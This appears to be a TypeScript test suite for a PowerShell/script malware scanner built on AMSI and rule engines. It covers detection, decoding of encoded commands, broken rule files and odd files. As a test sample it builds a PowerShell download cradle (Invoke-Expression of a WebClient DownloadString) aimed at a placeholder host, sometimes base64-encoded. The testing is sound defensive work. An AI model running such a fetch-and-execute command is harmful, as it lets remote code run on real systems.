/** The built dist/host.js with its own engines, through the client. */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ScanClient } from '../../../src/client/client';
import type { FileReport } from '../../../src/findings/model';
import type { HostConfig, ScanInput } from '../../../src/protocol';
import { stream } from '../client/bench-of-hosts';
import { settingsFor, testConfig } from '../client/settings';

const dist = process.env.AMSIGHT_DIST ?? path.join(process.cwd(), 'dist');
/** A download cradle; its host does not exist. */
const cradle = [
  'Invoke-Exp',
  'ression (New-Object Net.WebClient).Download',
  "String('http://sample.invalid/a')",
].join('');

describe('dist/host.js', function () {
  this.timeout(60_000);
  let folder = '';
  let client: ScanClient;

  before(() => {
    folder = mkdtempSync(path.join(tmpdir(), 'amsight-host-'));
  });

  after(() => {
    rmSync(folder, { recursive: true, force: true });
  });

  afterEach(() => client.dispose());

  function use(rulePaths: readonly string[] = [], changes: Partial<HostConfig> = {}): ScanClient {
    client = new ScanClient(
      settingsFor(path.join(dist, 'host.js'), {
        deadline: 30_000,
        config: { ...testConfig, rulePaths, ...changes },
      }),
    );
    return client;
  }

  function scan(content: string, changes: Partial<ScanInput> = {}): Promise<FileReport> {
    return client.scan({
      input: { contentName: '/script.ps1', source: { type: 'text', text: content }, ...changes },
      options: { requested: true, localize: null },
      priority: 'edit',
    });
  }

  async function scanFiles(inputs: Iterable<ScanInput>): Promise<Map<string, FileReport>> {
    const reports = new Map<string, FileReport>();
    await client.scanFiles({
      inputs: stream(inputs),
      options: { requested: true, localize: null },
      jobs: 1,
      onReport: (report) => {
        assert.ok(!reports.has(report.path));
        reports.set(report.path, report);
      },
    });
    return reports;
  }

  it('flags a script with the bundled rules, where it is', async () => {
    use();
    const report = await scan(`Write-Output 1\n${cradle}`);
    assert.ok(report.findings.length > 0);
    assert.equal(report.findings[0]?.engine, 'rules');
    assert.equal(report.findings[0].range.start.line, 1);
    assert.match(report.findings[0].technique ?? '', /^T\d{4}/);
    assert.equal(client.state.engines.find(({ id }) => id === 'rules')?.state, 'ready');
  });

  it('speaks the language of its client: the bundle goes with the configuration', async () => {
    use([], { l10n: { 'The rules are loaded.': 'Die Regeln sind geladen.' } });
    await scan('Write-Output 1');
    const rules = client.state.engines.find(({ id }) => id === 'rules');
    assert.equal(rules?.detail, 'Die Regeln sind geladen.');
  });

  it('flags what hides in an encoded command', async () => {
    use();
    const report = await scan(`powershell -enc ${Buffer.from(cradle, 'utf16le').toString('base64')}`);
    assert.ok(report.findings.some(({ layer }) => layer === 1));
  });

  it('finds nothing in an honest script', async () => {
    use();
    assert.equal((await scan('Get-ChildItem | Sort-Object Length')).verdict, 'notDetected');
  });

  it('tells AMSI’s health', async () => {
    use();
    const health = await client.health({ probe: true });
    assert.equal(health.schema, 'amsight/health@1');
    if (process.platform !== 'win32') assert.equal(health.state, 'unavailable');
  });

  it('shows the layers of a script', async () => {
    use();
    const report = await client.layers({
      contentName: '/a.ps1',
      source: { type: 'text', text: `powershell -enc ${Buffer.from(cradle, 'utf16le').toString('base64')}` },
    });
    assert.deepEqual(
      report.layers.map(({ parent, text }) => [parent, text === cradle]),
      [
        [null, false],
        [0, true],
      ],
    );
  });

  it('tells the layers of a script without their contents, and any part of one', async () => {
    use();
    const input: ScanInput = {
      contentName: '/a.ps1',
      source: { type: 'text', text: `powershell -enc ${Buffer.from(cradle, 'utf16le').toString('base64')}` },
    };
    const { layers } = await client.layerOutline(input);
    assert.deepEqual(
      layers.map(({ form, parent, size }) => [form, parent, size]),
      [
        ['text', null, 16 + 4 * Math.ceil((2 * cradle.length) / 3)],
        ['text', 0, cradle.length],
      ],
    );
    assert.ok(layers.every((layer) => !('text' in layer) && !('bytes' in layer)));
    const sha256 = layers[1]?.sha256 ?? '';
    const part = { input, sha256, start: 4, end: 9 };
    assert.deepEqual(await client.layerPart(part), { start: 4, text: cradle.slice(4, 9), bytes: null });
    assert.equal((await client.layerPart({ ...part, start: 0, end: 1e9 }))?.text, cradle);
    assert.equal(await client.layerPart({ ...part, sha256: '00'.repeat(32) }), null);
    // The hash that a finding in the layer names.
    const { findings } = await scan(input.source.type === 'text' ? input.source.text : '');
    assert.ok(findings.some(({ layer, layerSha256 }) => layer === 1 && layerSha256 === sha256));
    assert.ok(findings.every(({ layer, layerSha256 }) => (layer === 0) === (layerSha256 === undefined)));
  });

  it('goes on with the other rules when one of the user’s files is broken, and says where', async () => {
    const broken = path.join(folder, 'broken.yar');
    const good = path.join(folder, 'good.yar');
    writeFileSync(broken, 'rule broken {\n  condition: nonsense\n}\n');
    writeFileSync(
      good,
      'rule own_rule { meta: description = "own" severity = "error" strings: $a = "OwnWord" condition: $a }\n',
    );
    use([broken, good]);
    const report = await scan('Write-Output OwnWord');
    assert.equal(report.findings[0]?.ruleId, 'rules/own_rule');
    assert.ok((await scan(cradle)).findings.length > 0);
    const status = client.state.engines.find(({ id }) => id === 'rules');
    assert.equal(status?.state, 'degraded');
    assert.equal(status.problems?.[0]?.file, broken);
    assert.equal(status.problems[0].range.start.line, 1);
  });

  it('accounts for every odd file of a folder', async () => {
    use();
    const input = (name: string): ScanInput => {
      const file = path.join(folder, 'odd', name);
      return { contentName: file, source: { type: 'path', path: file } };
    };
    const write = (name: string, content: string | Uint8Array): ScanInput => {
      const one = input(name);
      mkdirSync(path.dirname(one.contentName), { recursive: true });
      writeFileSync(one.contentName, content);
      return one;
    };
    const cases: [ScanInput, string, string | null][] = [
      [write('fine.ps1', 'Get-Date'), 'scanned', null],
      [write('empty.ps1', ''), 'scanned', null],
      [write('blank.vbs', ' \r\n'), 'scanned', null],
      [write('utf16.ps1', Buffer.from('\ufeffGet-Date', 'utf16le')), 'scanned', null],
      [write('invalid-utf8.ps1', Buffer.from([0x27, 0xc3, 0x28, 0xff, 0x27])), 'scanned', null],
      [write('lone-surrogate.ps1', Buffer.from('\ufeff"\ud800"', 'utf16le')), 'scanned', null],
      [write('binary.ps1', Buffer.alloc(1_000, Buffer.from([0, 1, 2, 3, 0x4d]))), 'skipped', 'binary'],
      [write('node.js', 'module.exports = 1'), 'skipped', 'notWsh'],
      [write('a b 😀 #1 100%25.ps1', 'Get-Date'), 'scanned', null],
      [write(`${'deep-folder-name/'.repeat(18)}script.ps1`, 'Get-Date'), 'scanned', null],
      [input('gone.ps1'), 'failed', 'notFound'],
      [write('huge.ps1', ''), 'skipped', 'tooLarge'],
    ];
    truncateSync(path.join(folder, 'odd', 'huge.ps1'), 200 * 1024 * 1024);
    mkdirSync(input('folder.ps1').contentName);
    cases.push([input('folder.ps1'), 'skipped', 'notAScript']);
    if (process.platform !== 'win32') {
      symlinkSync('loop.ps1', input('loop.ps1').contentName);
      symlinkSync('nowhere', input('dangling.ps1').contentName);
      execFileSync('mkfifo', [input('fifo.ps1').contentName]);
      cases.push(
        [input('loop.ps1'), 'skipped', 'symlinkLoop'],
        [input('dangling.ps1'), 'failed', 'notFound'],
        [input('fifo.ps1'), 'skipped', 'notAScript'],
      );
    }
    const reports = await scanFiles(cases.map(([one]) => one));
    const seen = cases.map(([{ contentName }]) => {
      const report = reports.get(contentName);
      return [path.basename(contentName), report?.status, report?.code];
    });
    assert.deepEqual(
      seen,
      cases.map(([{ contentName }, status, code]) => [path.basename(contentName), status, code]),
    );
    for (const [{ contentName }, status] of cases) {
      const report = reports.get(contentName);
      if (status === 'scanned') assert.equal(report?.verdict, 'notDetected', contentName);
      else assert.ok(report?.reason, `${contentName} has no reason`);
    }
  });

  it('gives a batch the same findings as each script alone', async () => {
    use();
    const contents = Array.from({ length: 60 }, (_, index) =>
      index % 20 === 3 ? `# ${index}\n${cradle}` : `Get-Date # ${index}`,
    );
    const inputs = contents.map((content, index): ScanInput => ({
      contentName: `/${index}.ps1`,
      source: { type: 'text', text: content },
    }));
    const batch = await scanFiles(inputs);
    client.restart();
    for (const [index, input] of inputs.entries()) {
      if (index % 4 !== 3) continue;
      const alone = await scan(contents[index] ?? '', { contentName: input.contentName });
      const together = batch.get(input.contentName);
      assert.deepEqual(together?.findings, alone.findings);
      assert.equal(alone.findings.length > 0, index % 20 === 3);
    }
  });
});
